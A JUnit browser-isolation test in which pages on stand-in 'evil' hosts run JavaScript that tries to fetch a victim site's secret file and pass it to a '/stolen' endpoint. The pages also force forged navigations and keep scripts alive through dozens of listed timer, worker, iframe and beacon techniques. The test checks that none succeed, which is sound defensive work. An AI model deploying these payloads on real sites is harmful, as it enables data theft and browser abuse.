package dev.sieve.browser;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sieve.fetch.FetchRequest;
import dev.sieve.fetch.FetchResult;
import dev.sieve.fetch.FetchResult.Page;
import java.net.InetAddress;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Sites whose pages go on after their end, in every way that is known, beside a site that has a secret and one that has none. With the system
 * property {@code sieve.proof}: 80 hostile pages keep both cores busy for minutes.
 */
@Tag("browser")
@Tag("slow")
@Timeout(900)
@EnabledIfSystemProperty(named = "sieve.proof", matches = "true")
@ExtendWith(BrowserExtension.class)
class HostileSitesTest {
    /** Asks the victim for what only its own pages may have, passes that on, and leads to a forged link. */
    private static final String HARM = """
            let n = 0;
            self.go = () => {
              fetch(V + 'secret.json?' + n++).then(r => r.text()).then(t => fetch('/stolen?' + t)).catch(e => 0);
              const x = new XMLHttpRequest();
              x.open('GET', V + 'secret.json');
              x.send();
              for (const [name, key] of [['script', 'src'], ['link', 'href']]) {
                const element = document.createElement(name);
                element.rel = 'stylesheet';
                element[key] = V + 'secret.json';
                document.head?.append(element);
              }
              if (n % 7 === 0) {
                location = V + 'forged';
              }
            };
            self.loop = () => self.looping ??= setInterval(go, 7);
            """;

    /** One way per line. */
    private static final List<String> WAYS = List.of("""
            onload = () => setTimeout(() => new MutationObserver(loop).observe(document, {childList: true, subtree: \
            true, attributes: true}), 50)
            onload = () => setTimeout(() => new MutationObserver(() => { for (let i = 0; i < 20; i++) setTimeout(go,\
             i * 20); setInterval(go, 5) }).observe(document, {childList: true, subtree: true}), 50)
            new ResizeObserver(loop).observe(document.documentElement)
            new IntersectionObserver(loop).observe(document.body)
            new PerformanceObserver(go).observe({entryTypes: ['resource', 'mark']}); setInterval(() => \
            performance.mark('a'), 20)
            loop()
            setInterval(() => { clearInterval(self.t); self.t = setInterval(go, 3) }, 10)
            const f = () => { go(); requestAnimationFrame(f) }; requestAnimationFrame(f)
            const f = () => { go(); requestIdleCallback(f) }; requestIdleCallback(f)
            const f = () => { go(); scheduler.postTask(f, {delay: 5}) }; f()
            const f = () => navigator.locks.query().then(go).then(f); f()
            const f = () => navigator.storage.estimate().then(go).then(f); f()
            const f = () => fetch('data:,x').then(go).then(f); f()
            const f = () => new Blob(['x']).text().then(go).then(f); f()
            const c = new MessageChannel(); c.port1.onmessage = () => { go(); setTimeout(() => \
            c.port2.postMessage(1), 3) }; c.port2.postMessage(1)
            const c = new MessageChannel(); let n = 0; c.port1.onmessage = () => { if (++n % 50 === 0) go(); \
            c.port2.postMessage(1) }; c.port2.postMessage(1)
            const a = new BroadcastChannel('x'); const b = new BroadcastChannel('x'); a.onmessage = () => { go(); \
            setTimeout(() => b.postMessage(1), 3) }; b.postMessage(1)
            onmessage = () => { go(); setTimeout(() => postMessage(1, '*'), 3) }; postMessage(1, '*')
            const w = new Worker(URL.createObjectURL(new Blob(['setInterval(() => postMessage(1), 3)']))); \
            w.onmessage = go
            new Worker(URL.createObjectURL(new Blob(['setInterval(() => { fetch("' + V + 'secret.json?' + \
            Math.random()).catch(e => 0) }, 10)'])))
            new Worker(URL.createObjectURL(new Blob(['new Worker(URL.createObjectURL(new Blob([\\'setInterval(() => \
            fetch("' + V + 'secret.json"), 9)\\'])))'])))
            const w = new SharedWorker(URL.createObjectURL(new Blob(['onconnect = e => setInterval(() => { \
            e.ports[0].postMessage(1); fetch("' + V + 'secret.json") }, 5)']))); w.port.onmessage = go; \
            w.port.start()
            navigator.serviceWorker?.register('/sw.js'); navigator.serviceWorker?.ready.then(loop); loop()
            onpagehide = onunload = onbeforeunload = document.onvisibilitychange = () => { go(); \
            navigator.sendBeacon(V + 'secret.json'); fetch(V + 'secret.json', {keepalive: true}).catch(e => 0); \
            loop() }
            onpagehide = () => { location = V + 'forged' }; onload = () => setTimeout(() => new MutationObserver(() \
            => setInterval(() => location = V + 'forged', 3)).observe(document, {childList: true, subtree: true}), \
            20)
            document.head.innerHTML = '<meta http-equiv=refresh content="1; url=' + V + 'forged">'; loop()
            const f = document.createElement('form'); f.action = V + 'forged'; document.body.append(f); onpagehide =\
             () => f.submit(); new MutationObserver(() => setInterval(() => f.submit(), 5)).observe(document, \
            {childList: true, subtree: true})
            navigation.onnavigate = () => { go(); loop() }; navigation.onnavigateerror = go; history.pushState(0, \
            '', '/x'); setInterval(() => navigation.navigate('#' + Math.random()), 20)
            history.pushState(0, '', '/a'); onpopstate = () => { go(); loop() }; history.back(); setInterval(() => {\
             history.go(-1); history.go(1) }, 10)
            const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.eval('var V = "' + \
            V + '"; setInterval(() => { fetch(V + "secret.json?f" + Math.random()).catch(e => 0); top.go() }, 5)')
            const f = document.createElement('iframe'); f.srcdoc = '<script>setInterval(() => { fetch("' + V + \
            'secret.json?s").catch(e => 0); parent.go() }, 5)</scr' + 'ipt>'; document.body.append(f)
            customElements.define('x-a', class extends HTMLElement { disconnectedCallback() { loop() } \
            connectedCallback() { go() } }); for (let i = 0; i < 3; i++) { const n = \
            document.createElement('noscript'); n.append(document.createElement('x-a')); document.body.append(n) }
            const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]); const f = () => \
            WebAssembly.instantiate(bytes).then(go).then(f); f()
            const a = new Int32Array(new WebAssembly.Memory({initial: 1, maximum: 1, shared: true}).buffer); const f\
             = () => { const r = Atomics.waitAsync(a, 0, 0, 3).value; Promise.resolve(r).then(go).then(f) }; f(); \
            new Worker(URL.createObjectURL(new Blob(['onmessage = e => { for (;;) { Atomics.wait(e.data, 0, 0, 3); \
            postMessage(1) } }']))).postMessage(a)
            indexedDB.open('x').onsuccess = e => e.target.result.close(); const f = () => { const r = \
            indexedDB.open('x' + Math.random()); r.onsuccess = r.onerror = () => { go(); setTimeout(f, 3) } }; f()
            const f = () => new Response(new ReadableStream({pull(c) { go(); c.enqueue(new Uint8Array(1)) ; if \
            (Math.random() < .1) c.close() }})).text().then(f); f()
            document.head.insertAdjacentHTML('beforeend', '<style>@keyframes k { to { top: 1px } } body { position: \
            relative; animation: k 5ms infinite }</style>'); document.body.onanimationiteration = go; new \
            MutationObserver(loop).observe(document, {childList: true, subtree: true})
            const f = () => { const e = new EventSource(V + 'secret.json'); e.onerror = () => { go(); e.close(); \
            setTimeout(f, 5) } }; f()
            new MutationObserver(() => { go(); const end = Date.now() + 3000; while (Date.now() < end); loop() \
            }).observe(document, {childList: true, subtree: true})
            self.fetchLater?.(V + 'secret.json', {activateAfter: 10}); setInterval(() => { const w = open(V + \
            'forged'); go() }, 20); onpagehide = () => open(V + 'forged')
            """.split("\n", -1));

    private record Made(Page page, Map<String, Object> record) {}

    private static Made render(Rendered rendered, String url) {
        Map<String, Object> record = new ConcurrentHashMap<>();
        FetchResult result = rendered.stage.fetch(new FetchRequest(url), rendered.documents, record::putAll);
        rendered.documents.release(result);
        return new Made((Page) result, record);
    }

    @Test
    void noneGetsWhatBelongsToAnotherOrDisturbsIt(Browser unused) throws Exception {
        Path program = Browser.program().orElseThrow();
        ExecutorService threads = Executors.newFixedThreadPool(4);
        try (ScriptedSite site = new ScriptedSite();
                Rendered rendered = new Rendered("all", program, host -> List.of(InetAddress.getLoopbackAddress()))) {
            String victim = "http://victim.test:" + site.port() + "/";
            String own = "fetch('/own.json').then(r => r.text()).then(t => document.body.innerHTML = t)";
            site.page("/", own)
                    .on("/own.json", "text/plain", "<h1>fine</h1>")
                    .on("/secret.json", "text/plain", "secret");
            rendered.documents.open(victim);
            rendered.documents.sendHeadersTo(victim);
            List<Future<Made>> pages = new ArrayList<>();
            for (int i = 0; i < 2 * WAYS.size(); i++) {
                int way = i % WAYS.size();
                site.page("/way" + way, "const V = '" + victim + "';" + HARM + WAYS.get(way));
                String hostile = "http://www.evil" + way + ".test:" + site.port() + "/way" + way;
                rendered.documents.open(hostile);
                threads.execute(() -> render(rendered, hostile));
                pages.add(threads.submit(() -> render(rendered, victim)));
            }

            for (int i = 0; i < pages.size(); i++) {
                Made made = pages.get(i).get();
                assertThat(made.record).doesNotContainKey("error");
                assertThat(made.record.get("requests")).isIn(0, 1);
                if (!made.record.containsKey("ready")) {
                    assertThat(Rendered.text(made.page))
                            .as("%s: %s", i, made.record)
                            .contains("<h1>fine</h1>");
                }
                assertThat(made.page.header("refresh")).as("%s", i).isNull();
            }
            assertThat(site.secrets()).containsOnly("/", "/own.json");
            assertThat(site.requests()).doesNotContain("GET /stolen", "GET /forged");
        } finally {
            threads.shutdownNow();
        }
    }
}
